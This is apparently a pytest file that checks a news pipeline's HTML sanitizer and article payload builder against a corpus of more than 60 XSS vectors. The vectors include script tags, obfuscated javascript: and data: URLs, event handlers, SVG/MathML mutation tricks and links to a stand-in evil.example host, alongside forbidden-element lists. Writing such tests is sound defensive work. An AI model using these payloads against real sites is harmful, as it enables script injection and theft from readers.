"""The XSS corpus: nothing executable survives into the HTML (or Markdown) that leaves newsdesk.

Each vector goes through the sanitizer directly (as if it were in the rendered body) and,
for the text-borne ones, through a whole article (headline, paragraphs, a source's title
and URL) and `build_payload`. The output is parsed the way a browser would (html5lib),
serialised and parsed again (mutation XSS shows on the second parse), and checked by
this file's own rules, not the sanitizer's: only plain text-structure elements, no event
handler or style/src/srcdoc/action attribute, no script-capable URL, and links only to
the article's cited source URLs or to `#source-N` for a cited N.
"""

from __future__ import annotations

import html
import re

import html5lib
import pytest
import render_factories
from markdown_it import MarkdownIt
from store_factories import make_draft

from pipeline.contracts import Source
from pipeline.publish.payload import build_payload
from pipeline.publish.sanitize import CitedLinks, sanitize_html

CITED = ("https://wire.harborstreet.example/markets/small-caps-edge-up",
         "https://ledgerdaily.example/us-stocks/factory-data-cut-bets")
LINKS = CitedLinks(urls=frozenset(CITED), numbers=frozenset({1, 2}))

SAFE_ELEMENTS = {
    "article", "section", "header", "footer", "div", "span", "p", "br", "hr", "h1", "h2", "h3", "h4",
    "ul", "ol", "li", "blockquote", "q", "em", "strong", "b", "i", "code", "sub", "sup", "figure",
    "figcaption", "table", "thead", "tbody", "tr", "th", "td", "a", "html", "head", "body", "pre",
}
FORBIDDEN_ELEMENTS = {
    "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "svg", "math", "form",
    "input", "button", "textarea", "select", "option", "base", "meta", "link", "template", "noscript",
    "img", "video", "audio", "source", "picture", "canvas", "details", "marquee", "isindex", "xmp",
    "plaintext", "noembed", "noframes", "title", "animate", "set", "use", "foreignobject", "image",
}
SAFE_ATTRIBUTES = {"href", "rel", "id", "value", "start", "colspan", "rowspan", "style"}
SAFE_STYLES = {"text-align: right", "overflow: auto"}  # exact values, nothing else

XSS = "alert(1)"
VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<img src=JaVaScRiPt:alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="javas&#99;ript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java&#0;script:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="DaTa:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="VBScript:msgbox(1)">x</a>',
    '<a href="https://evil.example/phish">an uncited link</a>',
    '<a href="//evil.example/x">a protocol-relative link</a>',
    '<a href="#source-9">an anchor to no cited source</a>',
    f'<a href="{CITED[0]}" onclick="alert(1)">a cited link with a handler</a>',
    f'<a href="{CITED[0]}&quot;onmouseover=&quot;alert(1)">quote break-out</a>',
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">x</text></a></svg>',
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<math href="javascript:alert(1)">x</math>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width: expression(alert(1))">x</div>',
    "<style>@import 'javascript:alert(1)';</style>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<base href="javascript:alert(1)//">',
    '<link rel=stylesheet href="javascript:alert(1)">',
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>",
    "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
    '<p title="</p><script>alert(1)</script>">x</p>',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    '<table><td background="javascript:alert(1)">x</td></table>',
    "<marquee onstart=alert(1)>",
    "<isindex action=javascript:alert(1) type=image>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><script>alert(1)</script>",
    '<span onmouseover="alert(1)">x</span>',
    '<li id="x" value="1 onclick=alert(1)">x</li>',
    '<table><tr><td style="text-align: right; background:url(javascript:alert(1))">x</td></tr></table>',
    '<div style="overflow: auto;position:fixed;top:0;left:0;width:100%;height:100%">x</div>',
    '<p style="text-align: right">x</p><span style="overflow: auto">alert(1)</span>',
]


def test_the_corpus_is_large_enough() -> None:
    assert len(VECTORS) >= 40


def assert_inert(output: str, cited: frozenset[str] = frozenset(CITED),
                 numbers: frozenset[int] = frozenset({1, 2})) -> None:
    """Parse like a browser, twice (mutation XSS), and check every element and attribute."""
    first = _parse(output)
    _check_tree(first, cited, numbers)
    again = html5lib.serialize(first, tree="etree", omit_optional_tags=False, quote_attr_values="always")
    _check_tree(_parse(again), cited, numbers)
    assert "<script" not in output.lower()


def _parse(text: str):  # noqa: ANN202 - an ElementTree element
    return html5lib.parse(f"<!DOCTYPE html><html><body>{text}</body></html>", namespaceHTMLElements=False)


def _check_tree(root, cited: frozenset[str], numbers: frozenset[int]) -> None:  # noqa: ANN001
    for element in root.iter():
        tag = element.tag if isinstance(element.tag, str) else ""
        name = tag.rsplit("}", 1)[-1].lower()
        if not name:
            continue  # a comment
        assert name not in FORBIDDEN_ELEMENTS, f"forbidden element <{name}> survived"
        assert name in SAFE_ELEMENTS, f"unexpected element <{name}>"
        for attribute, value in element.attrib.items():
            attr = attribute.rsplit("}", 1)[-1].lower()
            assert attr in SAFE_ATTRIBUTES, f"<{name} {attr}=...> survived"
            assert not attr.startswith("on")
            squashed = re.sub(r"[\s\x00-\x1f]", "", html.unescape(value)).lower()
            assert not squashed.startswith(("javascript:", "vbscript:", "data:")), f"{attr}={value!r}"
            if attr == "style":
                assert value in SAFE_STYLES and name in ("td", "th", "div"), f"<{name} style={value!r}>"
            if attr in ("value", "start", "colspan", "rowspan"):
                assert value.isdigit(), f"{attr}={value!r}"
            if attr == "href":
                _check_link(value, cited, numbers)


def _check_link(href: str, cited: frozenset[str], numbers: frozenset[int]) -> None:
    anchor = re.fullmatch(r"#source-(\d+)", href)
    if anchor:
        assert int(anchor[1]) in numbers, f"anchor to uncited source {href}"
    else:
        assert href in cited, f"link to {href!r}, which the article does not cite"


@pytest.mark.parametrize("vector", VECTORS)
def test_nothing_executable_survives_the_sanitizer(vector: str) -> None:
    output = sanitize_html(f"<p>before</p>{vector}<p>after</p>", LINKS)
    assert_inert(output)
    if "alert(1)" in vector and "<" in output:
        # whatever text is left of a vector is inert text, never markup around it
        assert "onerror" not in output.lower() and "javascript" not in output.lower().replace("&", "")


def test_cited_links_and_source_anchors_survive_with_a_safe_rel() -> None:
    output = sanitize_html(f'<p><a href="{CITED[1]}">story</a> <a href="#source-2">[2]</a></p>', LINKS)
    assert f'href="{CITED[1]}"' in output and 'href="#source-2"' in output
    assert output.count('rel="nofollow noopener noreferrer"') == 2


def _article_with(vector: str, bad_source_url: str = "javascript:alert(1)"):  # noqa: ANN202
    article = render_factories.make_article()
    sources = [*article.sources,
               Source(number=3, item_id="evil-3", title=vector, publisher=vector, url=bad_source_url,
                      snippet=vector)]
    return article.model_copy(update={
        "headline": f"Small caps {vector}", "dek": vector, "take": vector,
        "analysis": [f"IWM rose {vector} [1].", vector, f"Rates [2] {vector} [3]."],
        "bull_case": [vector], "tags": ["iwm", vector], "sources": sources,
    })


@pytest.mark.parametrize("vector", VECTORS)
@pytest.mark.parametrize("bad_url", ["javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
                                     " JaVaScRiPt:alert(1)"])
def test_vectors_inside_an_article_leave_only_inert_html(vector: str, bad_url: str) -> None:
    draft = make_draft().model_copy(update={"article": _article_with(vector, bad_url)})
    payload = build_payload(draft)

    assert_inert(payload.html, numbers=frozenset({1, 2, 3}))
    assert set(payload.source_urls) == set(CITED)  # the script URL is not a source one may link to
    assert 'href="#source-1"' in payload.html and f'href="{CITED[0]}"' in payload.html


@pytest.mark.parametrize("vector", VECTORS)
def test_the_markdown_stays_inert_even_where_a_site_renders_raw_html(vector: str) -> None:
    draft = make_draft().model_copy(update={"article": _article_with(vector)})
    markdown = build_payload(draft).markdown
    rendered = MarkdownIt("commonmark", {"html": True}).render(markdown)
    assert_inert(rendered, numbers=frozenset({1, 2, 3}))
